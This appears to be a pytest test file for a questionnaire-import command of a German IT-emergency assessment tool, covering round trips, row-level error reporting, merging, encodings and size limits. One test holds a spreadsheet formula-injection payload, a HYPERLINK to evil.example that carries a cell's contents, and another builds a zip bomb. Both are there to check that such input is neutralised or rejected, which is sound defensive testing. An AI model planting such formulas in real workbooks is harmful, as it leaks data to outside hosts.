"""Importing filled-in questionnaires: round trips of our own exports, every problem with its
sheet and row, merging with --into, caps on size, foreign sheets and the review list."""

from __future__ import annotations

import datetime as dt
import io
import json
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from openpyxl import load_workbook

from assess.api import load_catalog
from assess.cli import main
from assess.exchange.columns import COLUMNS
from tests.conftest import write_yaml

CAT = load_catalog("acs-it-notfall")
COL = {c.key: i for i, c in enumerate(COLUMNS)}
LABELS_DE = {s.id: s.label.de for s in CAT.scale}
CYCLE = ["fulfilled", "largely", "partial", "not", "unknown"]


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


def export(tmp_path: Path, name: str, *args: str) -> Path:
    out = tmp_path / name
    code, stdout, stderr = run("questionnaire", "export", *args, "-o", str(out))
    assert code == 0, stdout + stderr
    return out


def read_answers(path: Path) -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load(path.read_text(encoding="utf-8"))
    return data


def fill_xlsx(
    source: Path, target: Path, extra: dict[str, dict[str, Any]] | None = None
) -> dict[str, dict[str, Any]]:
    """Fill every open status of an exported workbook; return what was filled per control."""
    wb = load_workbook(source)
    ws = wb["Fragen"]
    filled: dict[str, dict[str, Any]] = {}
    for i, row in enumerate(ws.iter_rows(min_row=2)):
        if row[COL["status"]].protection.locked:
            continue
        cid = row[0].value
        status = CYCLE[i % len(CYCLE)]
        row[COL["status"]].value = LABELS_DE[status]
        answer: dict[str, Any] = {"status": status}
        if i % 3 == 0:
            row[COL["note"]].value = f"Notiz zu {cid}; mit „Anführungszeichen“"
            answer["note"] = f"Notiz zu {cid}; mit „Anführungszeichen“"
        if i % 4 == 0:
            row[COL["owner"]].value = "Frau Öztürk"
            row[COL["due"]].value = dt.date(2027, 3, 31)
            answer["owner"] = "Frau Öztürk"
            answer["due"] = dt.date(2027, 3, 31)
        for key, value in (extra or {}).get(cid, {}).items():
            row[COL[key]].value = value
            answer[key] = value
        filled[cid] = answer
    wb.save(target)
    return filled


def imported(path: Path) -> dict[str, dict[str, Any]]:
    answers = read_answers(path)["answers"]
    return {
        cid: {k: v for k, v in a.items() if k not in ("source", "updated")}
        for cid, a in answers.items()
    }


def test_xlsx_round_trip(tmp_path: Path) -> None:
    q = export(tmp_path, "q.xlsx", "--profile", "schreinerei-huber")
    filled = fill_xlsx(q, tmp_path / "filled.xlsx")
    out = tmp_path / "answers.yaml"
    code, stdout, stderr = run(
        "questionnaire", "import", str(tmp_path / "filled.xlsx"), "-o", str(out)
    )
    assert code == 0, stdout + stderr
    assert imported(out) == filled
    data = read_answers(out)
    assert data["catalog"] == CAT.pin
    assert data["profile"] == "schreinerei-huber"
    first = next(iter(filled))
    assert data["answers"][first]["source"] == {"file": "filled.xlsx", "sheet": "Fragen", "row": 2}
    # The result is a valid answers file, and its details trace every answer to its row.
    code, markdown, stderr = run("evaluate", str(out), "--format", "markdown")
    assert code == 0, stderr
    assert f"- {first}: Herkunft der Antwort: filled.xlsx, Blatt Fragen, Zeile 2" in markdown


def csv_export_filled(
    tmp_path: Path, dialect: str, encoding: str
) -> tuple[Path, dict[str, dict[str, Any]]]:
    import csv

    q = export(tmp_path, "q.csv", "--profile", "schreinerei-huber", "--csv-dialect", dialect)
    delimiter = ";" if dialect == "excel-de" else ","
    rows = list(csv.reader(io.StringIO(q.read_bytes().decode("utf-8-sig")), delimiter=delimiter))
    filled: dict[str, dict[str, Any]] = {}
    for i, row in enumerate(rows[1:]):
        if row[COL["status"]]:
            continue  # not applicable by profile
        status = CYCLE[i % len(CYCLE)]
        row[COL["status"]] = LABELS_DE[status]
        filled[row[0]] = {"status": status}
        if i % 3 == 0:
            row[COL["note"]] = "Müller & Söhne; „geprüft“"
            filled[row[0]]["note"] = "Müller & Söhne; „geprüft“"
        if i % 5 == 0:
            row[COL["due"]] = "31.12.2027" if dialect == "excel-de" else "2027-12-31"
            filled[row[0]]["due"] = dt.date(2027, 12, 31)
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    target = tmp_path / f"filled-{dialect}-{encoding}.csv"
    target.write_bytes(buffer.getvalue().encode(encoding))
    return target, filled


@pytest.mark.parametrize(
    ("dialect", "encoding"),
    [
        ("excel-de", "utf-8-sig"),
        ("rfc4180", "utf-8"),
        ("excel-de", "cp1252"),
        ("excel-de", "utf-16"),
    ],
)
def test_csv_round_trip(tmp_path: Path, dialect: str, encoding: str) -> None:
    source, filled = csv_export_filled(tmp_path, dialect, encoding)
    out = tmp_path / "answers.yaml"
    code, stdout, stderr = run(
        "questionnaire", "import", str(source), "-o", str(out), "--profile", "schreinerei-huber"
    )
    assert code == 0, stdout + stderr
    assert imported(out) == filled
    assert read_answers(out)["answers"][next(iter(filled))]["source"] == {
        "file": source.name,
        "row": 2,
    }


def test_formula_in_a_note_stays_text(tmp_path: Path) -> None:
    q = export(tmp_path, "q.xlsx")
    first = CAT.controls[0].id
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Details")'
    fill_xlsx(q, tmp_path / "f.xlsx", {first: {"note": formula}})
    assert load_workbook(tmp_path / "f.xlsx")["Fragen"].cell(2, COL["note"] + 1).data_type == "f"
    out = tmp_path / "a.yaml"
    assert run("questionnaire", "import", str(tmp_path / "f.xlsx"), "-o", str(out))[0] == 0
    assert read_answers(out)["answers"][first]["note"] == formula
    # … and exported again, the formula is neutralised.
    data = read_answers(out)
    data["profile"] = "schreinerei-huber"
    again = export(tmp_path, "again.xlsx", "--from", str(write_yaml(tmp_path / "b.yaml", data)))
    cell = load_workbook(again)["Fragen"].cell(2, COL["note"] + 1)
    assert cell.value == "'" + formula
    assert cell.data_type == "s"


def edit_rows(source: Path, target: Path, edit: Any) -> None:
    wb = load_workbook(source)
    edit(wb["Fragen"])
    wb.save(target)


def test_sheet_changes_are_reported_with_rows(tmp_path: Path) -> None:
    q = export(tmp_path, "q.xlsx")
    filled = tmp_path / "filled.xlsx"
    fill_xlsx(q, filled)
    ids = [c.id for c in CAT.controls]

    def edit(ws: Any) -> None:
        ws.cell(3, COL["question"] + 1).value = "Eine ganz andere Frage?"
        ws.delete_rows(5)  # the control of row 5 is gone; everything below moves up
        ws.cell(7, COL["status"] + 1).value = "vielleicht"
        ws.cell(8, 1).value = ws.cell(9, 1).value  # a duplicated id

    edit_rows(filled, tmp_path / "edited.xlsx", edit)
    out = tmp_path / "a.yaml"
    code, stdout, _ = run(
        "questionnaire", "import", str(tmp_path / "edited.xlsx"), "-o", str(out), "--format", "json"
    )
    assert code == 2
    assert not out.exists()
    report = json.loads(stdout)
    assert report["format"] == "assess.import/1"
    rows = {r["row"]: r for r in report["rows"]}
    assert rows[3]["decision"] == "review"
    assert rows[3]["candidates"][0]["control"] == ids[1]
    assert "question text" in rows[3]["message"]
    assert rows[7]["decision"] == "error"
    assert "unknown status 'vielleicht'" in rows[7]["message"]
    assert "teilweise" in rows[7]["message"]
    assert rows[9]["decision"] == "error"
    assert f"{ids[8]} appears twice (rows 8 and 9)" in rows[9]["message"]
    assert report["errors"] == 2
    assert any(f"{ids[3]} (row 5 as exported) is missing" in n for n in report["notices"])
    assert any(f"{ids[4]} was moved here from row 6" in n for n in report["notices"])
    code, stdout, _ = run("questionnaire", "import", str(tmp_path / "edited.xlsx"), "-o", str(out))
    assert code == 2
    assert "edited.xlsx, Blatt Fragen, Zeile 7: unbekannter Status „vielleicht“ für " in stdout


def test_not_applicable_needs_a_justification(tmp_path: Path) -> None:
    q = export(tmp_path, "q.xlsx")
    optional = next(c for c in CAT.controls if not c.mandatory)
    mandatory = next(c for c in CAT.controls if c.mandatory)
    filled = tmp_path / "f.xlsx"
    fill_xlsx(
        q,
        filled,
        {
            optional.id: {"status": "entbehrlich"},
            mandatory.id: {"status": "n/a", "justification": "x"},
        },
    )
    code, stdout, _ = run("questionnaire", "import", str(filled), "--dry-run", "--format", "json")
    assert code == 2
    messages = [r["message"] for r in json.loads(stdout)["rows"] if r["decision"] == "error"]
    assert (
        f"{optional.id} is marked not applicable without a justification; fill in the justification"
        in messages
    )
    assert f"{mandatory.id} is mandatory and cannot be not applicable" in messages


@pytest.mark.parametrize(
    ("word", "status"),
    [("ja", "fulfilled"), ("Nein", "not"), ("teilweise", "partial"), ("weitgehend", "largely"),
     ("unbekannt", "unknown"), ("yes", "fulfilled"), ("no", "not"), ("partly", "partial"),
     ("largely", "largely"), ("✓", "fulfilled"), ("✗", "not"), ("x", "fulfilled"),
     ("grün", "fulfilled"), ("gelb", "partial"), ("rot", "not"), ("0", "not"), ("1", "partial"),
     ("2", "largely"), ("3", "fulfilled"), ("0 %", "not"), ("25%", "partial"), ("50 %", "partial"),
     ("75%", "largely"), ("100 %", "fulfilled"), ("fulfilled", "fulfilled"),
     ("teilweise umgesetzt", "partial"), ("Weiß nicht", "unknown"), ("weiss nicht", "unknown"),
     ("Vollständig", "fulfilled"), ("Überwiegend", "largely"), ("ENTFÄLLT", "na")],
)  # fmt: skip
def test_status_vocabulary(word: str, status: str) -> None:
    from assess.exchange.vocabulary import Vocabulary

    assert Vocabulary(CAT).status(word) == status


def test_status_vocabulary_numbers_and_na() -> None:
    from assess.exchange.vocabulary import Vocabulary

    vocabulary = Vocabulary(CAT, {"in Umsetzung": "partial"})
    assert vocabulary.status(3.0) == "fulfilled"
    for word in ("entfällt", "n. a.", "n/a", "entbehrlich"):
        assert vocabulary.status(word) == "na"
    assert vocabulary.status("In  Umsetzung") == "partial"
    for word in ("vielleicht", "4", "60 %", "", "ja/nein"):
        assert vocabulary.status(word) is None


def existing_answers(tmp_path: Path, answers: dict[str, Any]) -> Path:
    return write_yaml(
        tmp_path / "existing.yaml",
        {
            "catalog": CAT.pin,
            "profile": "schreinerei-huber",
            "date": "2026-01-15",
            "assessor": "Vorjahr",
            "answers": answers,
        },
    )


def test_into_lists_conflicts_and_needs_prefer(tmp_path: Path) -> None:
    q = export(tmp_path, "q.xlsx")
    filled = fill_xlsx(q, tmp_path / "f.xlsx")
    (a, first), (b, second) = list(filled.items())[:2]
    other = "not" if first["status"] != "not" else "fulfilled"
    into = existing_answers(tmp_path, {a: other, b: dict(second)})
    before = into.read_bytes()
    code, stdout, _ = run(
        "questionnaire", "import", str(tmp_path / "f.xlsx"), "--into", str(into), "--lang", "en"
    )
    assert code == 2
    assert f"{a}: existing status={other} ≠ imported status={first['status']}" in stdout
    assert into.read_bytes() == before  # nothing written
    code, _, _ = run(
        "questionnaire",
        "import",
        str(tmp_path / "f.xlsx"),
        "--into",
        str(into),
        "--prefer",
        "existing",
    )
    assert code == 0
    merged = read_answers(into)
    assert merged["answers"][a]["status"] == other
    assert merged["assessor"] == "Vorjahr"
    assert merged["date"] == dt.date(2026, 1, 15)
    assert len(merged["answers"]) == len(filled)
    code, _, _ = run(
        "questionnaire",
        "import",
        str(tmp_path / "f.xlsx"),
        "--into",
        str(into),
        "--prefer",
        "imported",
    )
    assert code == 0
    assert read_answers(into)["answers"][a]["status"] == first["status"]


def test_dry_run_writes_nothing_and_a_target_is_required(tmp_path: Path) -> None:
    q = export(tmp_path, "q.xlsx")
    fill_xlsx(q, tmp_path / "f.xlsx")
    code, stdout, _ = run(
        "questionnaire",
        "import",
        str(tmp_path / "f.xlsx"),
        "--dry-run",
        "-o",
        str(tmp_path / "a.yaml"),
    )
    assert code == 0
    assert "Probelauf: nichts geschrieben." in stdout
    assert not (tmp_path / "a.yaml").exists()
    code, _, stderr = run("questionnaire", "import", str(tmp_path / "f.xlsx"))
    assert code == 2
    assert "give -o ANSWERS.yaml or --into ANSWERS.yaml" in stderr


def test_size_caps(tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    big.write_bytes(b"Frage;Antwort\r\n" + b"x;ja\r\n" * (11 * 1024 * 1024 // 6))
    code, _, stderr = run("questionnaire", "import", str(big), "--dry-run")
    assert code == 2
    assert "more than the limit of 10 MB" in stderr
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (80 * 1024 * 1024))
    assert bomb.stat().st_size < 1024 * 1024
    code, _, stderr = run("questionnaire", "import", str(bomb), "--dry-run")
    assert code == 2
    assert "zip bomb" in stderr


def test_cell_cap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from assess.exchange import tables

    monkeypatch.setattr(tables, "MAX_ROWS", 100)
    q = export(tmp_path, "q.xlsx")
    wb = load_workbook(q)
    wb["Fragen"].cell(500, 1).value = "x"
    wb.save(tmp_path / "long.xlsx")
    code, _, stderr = run("questionnaire", "import", str(tmp_path / "long.xlsx"), "--dry-run")
    assert code == 2
    assert "sheet 'Fragen': 500 rows × 14 columns is more than the limit" in stderr


def test_wrong_encoding_and_garbage(tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_bytes(b"Frage;Antwort\r\nBackup \x81\x8d;ja\r\n")
    code, _, stderr = run("questionnaire", "import", str(bad), "--dry-run")
    assert code == 2
    assert "neither UTF-8, UTF-16 nor Windows-1252" in stderr
    fake = tmp_path / "fake.xlsx"
    fake.write_text("not a workbook")
    code, _, stderr = run("questionnaire", "import", str(fake), "--dry-run")
    assert code == 2
    assert "not an xlsx workbook" in stderr


def test_answers_file_merges_into_another(tmp_path: Path) -> None:
    ids = [c.id for c in CAT.controls if not c.mandatory and c.applies_if is None]
    into = existing_answers(tmp_path, {ids[0]: "partial"})
    other = write_yaml(
        tmp_path / "other.yaml",
        {
            "catalog": CAT.pin,
            "date": "2026-02-01",
            "assessor": "Audit",
            "answers": {ids[1]: "ja", ids[2]: {"status": "nicht", "note": "fehlt"}},
        },
    )
    code, stdout, stderr = run("questionnaire", "import", str(other), "--into", str(into))
    assert code == 0, stdout + stderr
    merged = read_answers(into)["answers"]
    assert merged[ids[0]] == "partial" or merged[ids[0]]["status"] == "partial"
    assert merged[ids[1]]["status"] == "fulfilled"
    assert merged[ids[2]]["note"] == "fehlt"
    assert merged[ids[2]]["source"]["file"] == "other.yaml"
    assert merged[ids[2]]["source"]["row"] == 6  # the line of its answer


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_round_trip(tmp_path: Path) -> None:
    """Filled in, then saved again by LibreOffice (headless): the import still knows its own
    file and gives exactly the answers that were filled."""
    q = export(tmp_path, "q.xlsx", "--profile", "schreinerei-huber")
    filled = fill_xlsx(q, tmp_path / "filled.xlsx")
    converted = tmp_path / "lo"
    subprocess.run(
        [
            "soffice",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(converted),
            str(tmp_path / "filled.xlsx"),
        ],
        check=True,
        capture_output=True,
        timeout=120,
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
    )
    out = tmp_path / "answers.yaml"
    code, stdout, stderr = run(
        "questionnaire", "import", str(converted / "filled.xlsx"), "-o", str(out)
    )
    assert code == 0, stdout + stderr
    assert "eigener Export" in stdout
    assert imported(out) == filled


def test_next_years_template_does_not_carry_the_source_over(tmp_path: Path) -> None:
    q = export(tmp_path, "q.xlsx", "--profile", "schreinerei-huber")
    fill_xlsx(q, tmp_path / "f.xlsx")
    out = tmp_path / "a.yaml"
    assert run("questionnaire", "import", str(tmp_path / "f.xlsx"), "-o", str(out))[0] == 0
    assert "source:" in out.read_text(encoding="utf-8")
    code, template, stderr = run("answers", "template", "--from", str(out))
    assert code == 0, stderr
    assert "source" not in template
    assert "fulfilled" in template


def test_english_export_round_trip(tmp_path: Path) -> None:
    q = export(tmp_path, "q.xlsx", "--lang", "en")
    wb = load_workbook(q)
    ws = wb["Questions"]
    filled = {}
    for i, row in enumerate(ws.iter_rows(min_row=2)):
        status = CYCLE[i % len(CYCLE)]
        row[COL["status"]].value = CAT.status(status).label.en
        row[COL["due"]].value = "2027-06-30"
        filled[row[0].value] = {"status": status, "due": dt.date(2027, 6, 30)}
    wb["Cover"]["B8"] = "J. Auditor"
    wb.save(tmp_path / "f.xlsx")
    out = tmp_path / "a.yaml"
    code, stdout, stderr = run(
        "questionnaire", "import", str(tmp_path / "f.xlsx"), "-o", str(out), "--lang", "en"
    )
    assert code == 0, stdout + stderr
    assert "Import of f.xlsx (own export" in stdout
    assert imported(out) == filled
    assert read_answers(out)["assessor"] == "J. Auditor"


def test_an_export_of_an_older_revision_keeps_a_retired_controls_answer(tmp_path: Path) -> None:
    """A sheet exported before a control was split still imports: the retired id's answer is
    kept (it stands in for its successors) and the notices say so."""
    retired, (revision, change) = next(
        (cid, entry) for cid, entry in sorted(CAT.retired.items()) if entry[1].replaced_by
    )
    q = export(tmp_path, "q.xlsx")
    wb = load_workbook(q)
    ws = wb["Fragen"]
    ws.cell(2, 1).value = retired  # as an export of the earlier revision had it
    ws.cell(2, COL["status"] + 1).value = "teilweise"
    meta = wb["_assess"]
    meta.cell(next(r[0].row for r in meta.iter_rows() if r[0].value == "revision"), 2).value = (
        revision - 1
    )
    wb.save(tmp_path / "old.xlsx")
    out = tmp_path / "a.yaml"
    code, stdout, stderr = run(
        "questionnaire", "import", str(tmp_path / "old.xlsx"), "-o", str(out), "--lang", "en"
    )
    assert code == 0, stdout + stderr
    assert read_answers(out)["answers"][retired]["status"] == "partial"
    assert f"{retired} is retired in revision {revision}" in stdout
    assert ", ".join(change.replaced_by) in stdout
    assert f"exported with revision {revision - 1}" in stdout
    code, _, stderr = run("evaluate", str(out), "--profile", "schreinerei-huber")
    assert code == 0, stderr
